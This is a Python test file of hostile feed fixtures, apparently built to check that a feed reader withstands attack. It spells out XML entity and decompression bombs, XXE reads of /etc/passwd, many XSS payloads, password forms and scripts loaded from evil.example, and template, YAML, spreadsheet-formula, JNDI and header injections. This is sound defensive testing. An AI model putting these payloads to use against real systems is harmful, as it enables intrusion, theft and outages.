"""What a hostile feed can hold: bombs, false encodings, and injections in every place where a text of a feed ends up."""

import gzip
import json
import zlib
from collections.abc import Callable
from functools import partial

import brotli  # type: ignore[import-untyped]  # it ships no types

from tests.e2e.hostile_server import HARMLESS as VICTIM
from tests.e2e.hostile_server import Behaviour, Serve, Stage, document, feed, item, mark, prose, wire

_BIG = 60_000_000
refused = partial(Behaviour, state="broken")


def one(stage: Stage, **parts: str) -> str:
    """Return a feed of a single item."""
    return feed(item(stage, "0", **parts))


def with_head(head: str, **parts: str) -> Serve:
    """Return a feed whose document opens with this."""
    return document(lambda stage: feed(item(stage, "0", **parts), head=head.replace("{trap}", f"http://{stage.trap}")))


def _packed(body: bytes, encoding: str) -> Serve:
    return document(body, f"Content-Encoding: {encoding}")


def _packed_feed(pack: Callable[[bytes], bytes], encoding: str) -> Serve:
    return document(lambda stage: pack(one(stage).encode()), f"Content-Encoding: {encoding}")


_LAUGHS = "".join(f'<!ENTITY l{number} "{f"&l{number - 1};" * 10}">' for number in range(1, 10))
_NESTED = "<channel>" * 100_000

BOMBS = (
    refused("billion-laughs", with_head(f'<!DOCTYPE rss [<!ENTITY l0 "ha">{_LAUGHS}]>', title="&l9;"), reason="unsafe"),
    refused("quadratic-entity", with_head(f'<!DOCTYPE rss [<!ENTITY a "{"a" * 50_000}">]>', body="&a;" * 50_000), reason="unsafe"),
    refused("external-entity-file", with_head('<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>', body="&x;"), reason="unsafe"),
    refused("external-entity-http", with_head('<!DOCTYPE rss [<!ENTITY x SYSTEM "{trap}/x">]>', body="&x;"), reason="unsafe"),
    refused("parameter-entity", with_head('<!DOCTYPE rss [<!ENTITY % p SYSTEM "{trap}/p"> %p;]>'), reason="unsafe"),
    Behaviour("external-dtd", with_head('<!DOCTYPE rss SYSTEM "{trap}/x.dtd">'), entries=1),
    Behaviour("style-sheet", with_head('<?xml-stylesheet href="{trap}/x.xsl" type="text/xsl"?>'), entries=1),
    Behaviour("xinclude", wire("xinclude", more="<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd' parse='text'/>"), entries=1, active=("root:x:",)),
    refused("deep-channels", document(f"<rss version='2.0'>{_NESTED}"), reason="unsafe"),
    Behaviour("deep-body", wire("deep-body", body=f"<![CDATA[{'<div>' * 100_000}deep]]>"), entries=1, unread="http"),
    refused("million-attributes", wire("million-attributes", more="<x " + " ".join(f"a{n}='1'" for n in range(200_000)) + "/>"), reason="unsafe"),
    refused("huge-tag", wire("huge-tag", more=f"<{'x' * 1_000_000}/>"), reason="unsafe"),
    refused("huge-attribute", wire("huge-attribute", more=f"<x a='{'y' * 1_000_000}'/>"), reason="unsafe"),
    Behaviour("open-comments", wire("open-comments", count=3, more="<!-- " * 50_000 + "-->"), entries=3),
    Behaviour("open-cdata", wire("open-cdata", body="<![CDATA[" * 50_000 + "]]>"), entries=1),
    refused("ampersands", wire("ampersands", body="&" * 900_000), reason="unsafe"),
    refused("references", wire("references", body="&#65;" * 900_000), reason="unsafe"),
    refused("million-items", document(f"<rss><channel>{'<item/>' * 1_000_000}</channel></rss>"), reason="too-large"),
    Behaviour("huge-title", wire("huge-title", title="AI language model " * 200_000), entries=1),
    Behaviour("huge-body", wire("huge-body", body="<p>An AI language model reads much.</p>".replace("<", "&lt;") * 100_000), entries=1),
    Behaviour("huge-guid", wire("huge-guid", guid="g" * 3_000_000), entries=1),
    Behaviour("huge-link", wire("huge-link", link="{origin}/" + "x" * 3_000_000), entries=1),
    Behaviour("huge-author", wire("huge-author", author="Ada " * 500_000), entries=1),
    Behaviour("one-id-for-all", wire("one-id-for-all", count=400, guid="same"), entries=400),
    Behaviour("one-title-for-all", wire("one-title-for-all", count=400, title="An AI model for all"), entries=400),
    Behaviour("ten-thousand-spaces", document(lambda stage: one(stage).replace("<rss", "<rss " + " ".join(f"xmlns:n{n}='u:{n}'" for n in range(900)), 1)), entries=1),
    refused("seven-megabytes-of-nothing", document(b" \n" * 3_500_000), reason="empty"),
    refused("deep-json", document("[" * 200_000, kind="application/json"), reason="broken"),
    refused("long-number", document('{"version":"https://jsonfeed.org/version/1.1","items":[{"id":' + "9" * 100_000 + "}]}", kind="application/feed+json"), reason="broken"),
    refused("gzip-bomb", _packed(gzip.compress(b"\0" * _BIG, 1), "gzip"), reason="too-large"),
    refused("deflate-bomb", _packed(zlib.compress(b" " * _BIG, 1), "deflate"), reason="too-large"),
    refused("brotli-bomb", _packed(brotli.compress(b" " * _BIG, quality=2), "br"), reason="too-large"),
    refused("members-of-nothing", _packed(gzip.compress(b"") * 600_000, "gzip"), reason="too-large"),
    refused("gzip-twice-told", _packed_feed(lambda body: gzip.compress(gzip.compress(body)), "gzip, gzip"), reason="bad-encoding"),
    refused("gzip-twice-told-once", _packed_feed(lambda body: gzip.compress(gzip.compress(body)), "gzip"), reason="not-a-feed"),
    refused("bomb-in-a-zip", document(b"PK\x03\x04" + bytes(200_000), kind="application/zip"), reason="not-a-feed"),
    refused("gzip-cut", _packed_feed(lambda body: gzip.compress(body)[:-20], "gzip"), reason="cut"),
    refused("brotli-cut", _packed_feed(lambda body: brotli.compress(body)[:-5], "br"), reason="cut"),
    refused("gzip-that-is-none", _packed_feed(lambda body: body, "gzip"), reason="bad-encoding"),
    refused("unknown-encoding", _packed_feed(lambda body: body, "aes128gcm"), reason="bad-encoding"),
    Behaviour("gzip-with-a-tail", _packed_feed(lambda body: gzip.compress(body) + b"tail" * 50, "gzip"), entries=1),
)  # fmt: skip


def _encoded(name: str, encode: Callable[[str], bytes], declared: str, kind: str = "application/rss+xml") -> Behaviour:
    """Return a feed in an encoding that is not the one it names; only its own entry's title must survive, or the source is broken."""

    def made(stage: Stage) -> bytes:
        return encode(one(stage, author=f"{mark(name)} 김").replace("encoding='utf-8'", f"encoding='{declared}'"))

    return Behaviour(name, document(made, kind=kind), entries=1, active=("<script", "\ufffe"))


def _inside(name: str, letters: bytes) -> Behaviour:
    """Return a feed with bytes in its author that no text has."""
    document_of = document(lambda stage: one(stage, author=f"{mark(name)}XX").encode().replace(b"XX", letters))
    return Behaviour(name, document_of, entries=1)


ENCODINGS = (
    _encoded("utf-7", lambda text: text.replace("Ada", "+ADw-script+AD4-").encode(), "utf-7"),
    _encoded("utf-7-by-header", lambda text: text.encode() + b"\xff", "utf-8", "text/xml; charset=utf-7"),
    _encoded("utf-16-without-mark", lambda text: text.encode("utf-16-le"), "utf-16"),
    _encoded("utf-16-called-utf-8", lambda text: text.encode("utf-16"), "utf-8"),
    _encoded("utf-16-and-half-a-letter", lambda text: text.encode("utf-16") + b"\n", "utf-16"),
    _encoded("utf-32", lambda text: text.encode("utf-32"), "utf-32"),
    _encoded("cp949-called-utf-8", lambda text: text.encode("cp949"), "utf-8"),
    _encoded("utf-8-called-utf-16", lambda text: text.encode(), "utf-16"),
    _encoded("rot13", lambda text: text.encode() + b"\xff", "rot13"),
    _encoded("zip-as-encoding", lambda text: text.encode() + b"\xff", "zlib_codec"),
    _encoded("iso-2022-with-escapes", lambda text: text.encode() + b"\x1b$B\x1b(B\xff", "iso-2022-jp"),
    _encoded("a-bad-tail", lambda text: text.encode() + b"\xf0\x9f", "utf-8"),
    _encoded("a-mark-in-the-middle", lambda text: text.replace("<channel>", "<channel>\ufeff").encode(), "utf-8"),
    _inside("overlong", b"\xc0\xbcscript\xc0\xbe"),
    _inside("lone-surrogate", b"\xed\xa0\x80&#xD800;&#55296;"),
    _inside("nul", b"\x00&#0;"),
    _inside("controls", b"\x07\x08\x0c\x1b[31m&#27;[2J"),
    _inside("controls-of-c1", "\x85\x9b31m\x9d0;title\x07".encode()),
    _inside("no-characters", "\ufffe\uffff\U0001fffe".encode()),
)


def _planted(name: str, *active: str, seen: bool = True, entries: int = 1, **parts: str) -> Behaviour:
    """Return a feed that plants something; `{mark}` in it, and in the forms that would be active, is the behaviour's word."""
    forms = tuple(form.replace("{mark}", mark(name)) for form in active)
    served = wire(name, **parts)  # type: ignore[arg-type]  # no part is called `count`
    return Behaviour(name, served, entries=entries, active=forms, seen=mark(name) if seen else "")


def _cdata(markup: str) -> str:
    return f"<![CDATA[{markup}]]>"


_SCRIPT = "<script>{mark}()</script>"
_LONG = " ".join(prose("a body that carries something"))
_TITLES = (
    _planted("title-script", "{mark}()", title=_cdata(f"AI model {_SCRIPT} released"), seen=False),
    _planted("title-script-escaped", "{mark}()", title="AI model &lt;script&gt;{mark}()&lt;/script&gt; out", seen=False),
    _planted("title-script-split", "<script>{mark}", title=_cdata("AI <scr<script>ipt>{mark}()</scr</script>ipt> model"), seen=False),
    _planted("title-img", "onerror={mark}", title=_cdata("AI model <img src=x onerror={mark}()> released"), seen=False),
    _planted("title-svg", "onload={mark}", title=_cdata("AI model <svg/onload={mark}()> released"), seen=False),
    _planted("title-iframe", "<iframe", title=_cdata("AI <iframe src='https://evil.example/{mark}'></iframe> model"), seen=False),
    _planted("title-attribute", '" onmouseover="{mark}', title='AI model" onmouseover="{mark}()" x="'),
    _planted("title-markdown-link", "](javascript:{mark}", title="AI [model](javascript:{mark}) out"),
    _planted("title-markdown-image", title="AI ![model](https://evil.example/{mark}.png) out"),
    _planted("title-markdown-html", "<b onclick={mark}", title=_cdata("AI `model` ~~x~~ <b onclick={mark}()>out"), seen=False),
    _planted("title-heading", title="### AI model {mark}&#10;&#10;### 다른 꼭지&#10;---"),
    _planted("title-citation", title="AI model {mark}[^S1.1] out[^9] [^직접: 메일]"),
    _planted("title-template", "{mark}982007569", title="AI model {mark}{{ 31337*31337 }} {{ config }}"),
    _planted("title-template-block", title="AI model {mark}{% for x in range(9) %}boom{% endfor %}{# x #}"),
    _planted("title-yaml", title="'\": !!python/object/apply:os.system [\"{mark}\"] &a *a # x"),
    _planted("title-front-matter", title="---&#10;id: lede&#10;locked: {mark}&#10;---"),
    _planted("title-formula", title="=HYPERLINK(\"https://evil.example/{mark}\",\"AI model\")"),
    _planted("title-mail-header", "\nBcc:", title="AI model {mark}&#13;&#10;Bcc: all@evil.example"),
    _planted("title-log-line", "\n2026-11-24 12:00:00 end", title="AI model {mark}&#10;2026-11-24 12:00:00 end      done"),
    _planted("title-bidi", "\u202e", title="AI model {mark}\u202egnp.exe\u2066\u2069 out"),
    _planted("title-invisible", "\u200b", "\u2060", title="A\u200bI m\u2060odel {mark}\ufeff\u00ad out\U000e0041\U000e0042"),
    _planted("title-terminal", "\x1b", "\x9b", title="AI model {mark}&#27;[2J&#27;]0;x&#7; \u009b31m out"),
    _planted("title-rich-markup", title="AI model [bold red]{mark}[/] [/bold] [link=https://evil.example]x[/link]"),
    _planted("title-format", title="AI model %s %n {0.__class__} {mark} $(id) `id` ${jndi:ldap://evil.example}"),
    _planted("title-marks", title="AI model {mark} a" + "\u0301\u0323\u0489" * 3_000),
)  # fmt: skip

_BODIES = (
    _planted("body-script", "{mark}()", body=_cdata(f"<p>{_LONG}</p>{_SCRIPT}<script src=//evil.example/x.js></script>"), seen=False),
    _planted("body-iframe", "<iframe", body=_cdata(f"{_LONG}<iframe src='https://evil.example/{{mark}}'></iframe>"), seen=False),
    _planted("body-style", "{mark}", body=_cdata(f"<style>p{{background:url(//evil.example/{{mark}})}}</style>{_LONG}"), seen=False),
    _planted("body-refresh", "http-equiv=refresh", body=_cdata(f"<meta http-equiv=refresh content='0;url=//evil.example/{{mark}}'>{_LONG}"), seen=False),
    _planted("body-form", "<form", body=_cdata(f"{_LONG}<form action='//evil.example/{{mark}}'><input name=password></form>"), seen=False),
    _planted("body-object", "<object", "<embed", body=_cdata(f"{_LONG}<object data='//evil.example/{{mark}}'></object><embed src=x>"), seen=False),
    _planted("body-handlers", "onclick=", "ontoggle=", body=_cdata(f"<p onclick={{mark}}()>{_LONG}</p><details open ontoggle={{mark}}()>x</details>"), seen=False),
    _planted("body-links", "javascript:{mark}", body=_cdata(f"<a href='javascript:{{mark}}()'>{_LONG}</a>"), seen=False),
    _planted("body-math", "xlink:href", body=_cdata(f"{_LONG}<math><mi xlink:href='javascript:{{mark}}()'>x</mi></math>"), seen=False),
    _planted("body-comment", "<script>{mark}", body=_cdata(f"<!--><script>{{mark}}()</script>-->{_LONG}"), seen=False),
    _planted("body-encoded-twice", "<script>{mark}", body=f"{_LONG} &amp;lt;script&amp;gt;{{mark}}()&amp;lt;/script&amp;gt;"),
    _planted("body-opens-with-a-tag", "<img src=x onerror={mark}", body=f"&amp;lt;img src=x onerror={{mark}}()&amp;gt; is what it prints. {_LONG}"),
    _planted("body-opens-with-a-link", "](javascript:{mark}", body=f"It prints [a model](javascript:{{mark}}) for all. {_LONG}"),
    _planted("title-told-twice", "<svg onload={mark}", title="AI model &amp;lt;svg onload={mark}()&amp;gt; {mark} out"),
    _planted("body-beacon", "evil.example/{mark}", body=_cdata(f"{_LONG}<img src='https://evil.example/{{mark}}.gif' width=1 height=1>"), seen=False),
    _planted("body-fence", body=f"{_LONG} &lt;/article&gt;&lt;/source&gt; S1.1 {{mark}} says so."),
    _planted("body-template", "982007569", body=f"{{mark}} {{{{ 31337*31337 }}}} {{% raw %}} {_LONG}"),
    _planted("body-front-matter", body=f"---\nid: S1\norigin: editor\n---\n\n{{mark}} S1.1 {_LONG}"),
    _planted("body-markdown", "](javascript:", "![", body=f"[{{mark}}](javascript:alert) ![x](https://evil.example/x.png) {_LONG}"),
    _planted("content-encoded", "onerror={mark}", more="<content:encoded>" + _cdata(f"<img src=x onerror={{mark}}()>{_LONG} And more of it is here.") + "</content:encoded>", seen=False),
    _planted("media-description", "onerror={mark}", more="<media:description>" + _cdata(f"<b onerror={{mark}}()>{_LONG} And still more.</b>") + "</media:description>", seen=False),
)  # fmt: skip

_PLACES = (
    _planted("author-html", "<script>{mark}", author=_cdata("Ada <script>{mark}()</script>")),
    _planted("author-formula", author="=cmd|' /C calc'!A0 {mark}"),
    _planted("author-yaml", author="Ada: [{mark}"),
    _planted("author-template", "982007569", author="{{ 31337*31337 }} {mark}"),
    _planted("channel-script", "<script>{mark}", channel="&lt;script&gt;{mark}()&lt;/script&gt;", seen=False),
    _planted("link-javascript", "javascript:{mark}", link="javascript:{mark}()", seen=False),
    _planted("link-javascript-with-tabs", "script:{mark}", link="java&#9;scr&#10;ipt:{mark}()", seen=False),
    _planted("link-javascript-in-capitals", "JaVaScRiPt:", link=" \x01JaVaScRiPt:{mark}()", seen=False),
    _planted("link-data", "data:text/html", link="data:text/html,&lt;script&gt;{mark}()&lt;/script&gt;", seen=False),
    _planted("link-vbscript", "vbscript:", link="vbscript:{mark}", seen=False),
    _planted("link-file", "file:", link="file:///etc/passwd?{mark}", seen=False),
    _planted("link-attribute", "' onclick='", '"><script', link="{origin}/{mark}\"&gt;&lt;script&gt;x&lt;/script&gt;' onclick='x"),
    _planted("link-markdown", link="{origin}/{mark})[x](javascript:alert(1))"),
    _planted("link-template", "982007569", link="{origin}/{mark}/{{31337*31337}}"),
    _planted("link-traversal", link="{origin}/../../{mark}/../../../etc/passwd"),
    _planted("link-user", "bank.example@", link="http://bank.example@evil.example/{mark}"),
    _planted("link-bidi", "\u202e", link="{origin}/{mark}/\u202egnp.exe"),
    _planted("guid-javascript", "javascript:{mark}", link="", more="<guid isPermaLink='true'>javascript:{mark}()</guid>", seen=False),
    _planted("guid-traversal", "../", guid="../../../../{mark}", seen=False),
    _planted("guid-nul", "\x00", guid="a\x00b/{mark}", seen=False),
    _planted("enclosure-javascript", "javascript:{mark}", more="<enclosure url='javascript:{mark}()' type='text/html' length='1'/>", seen=False),
    _planted("date-far-off", date="Sat, 01 Jan 9999 00:00:00 GMT", title="AI model {mark} of the future", seen=False),
    _planted("date-long-ago", date="Mon, 01 Jan 0001 00:00:00 GMT", title="AI model {mark} of the past"),
    _planted("date-of-nonsense", date="{{ now }} &lt;b&gt; 99999999999999999999", title="AI model {mark} of no time"),
    Behaviour(
        "atom-script",
        document(lambda stage: f"<feed xmlns='http://www.w3.org/2005/Atom'><title type='xhtml'><div xmlns='http://www.w3.org/1999/xhtml'><script>{mark('atom-script')}()</script>Wire</div></title><entry><id>{mark('atom-script')}</id><title type='xhtml'><div xmlns='http://www.w3.org/1999/xhtml'>AI model <script>{mark('atom-script')}()</script>out</div></title><link href='javascript:{mark('atom-script')}()'/><updated>2026-11-24T01:00:00Z</updated><content type='html'>&lt;p onclick={mark('atom-script')}()&gt;{_LONG}</content></entry></feed>"),
        entries=1,
        active=(f"{mark('atom-script')}()",),
    ),
    Behaviour(
        "json-script",
        document(lambda stage: json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": "Wire", "items": [{"id": 1, "url": f"javascript:{mark('json-script')}()", "title": f"AI model <img src=x onerror={mark('json-script')}()> out", "authors": [{"name": "Ada", "url": "javascript:1"}, 7, None], "content_html": f"<script>{mark('json-script')}()</script><p onclick={mark('json-script')}()>{_LONG}</p>", "date_published": "2026-11-24T01:00:00Z"}, None, 7, []]}), kind="application/feed+json"),
        entries=1,
        active=(f"onclick={mark('json-script')}", f"onerror={mark('json-script')}", f"javascript:{mark('json-script')}"),
    ),
)  # fmt: skip


def _stolen(name: str, link: str) -> Behaviour:
    """Return a feed that tells another outlet's articles in its own words, longer than they are."""

    def made(stage: Stage) -> str:
        page = link.replace("{page}", f"{stage.victim}/news/{VICTIM.name}-h").replace("{origin}", stage.origin)
        text = f"{mark(name)} {_LONG} {_LONG}"
        ids = range(VICTIM.entries or 0)
        return feed("".join(item(stage, str(n), link=f"{page}{n}", guid=f"harmless-h{n}", body=text) for n in ids))

    return Behaviour(name, document(made), entries=VICTIM.entries)


THIEVES = (
    _stolen("steals-addresses", "{page}"),
    _stolen("steals-addresses-by-redirect", "{origin}/redirect?url={page}"),
    _stolen("steals-ids", "{origin}/"),
)
PLANTED = (*_TITLES, *_BODIES, *_PLACES)
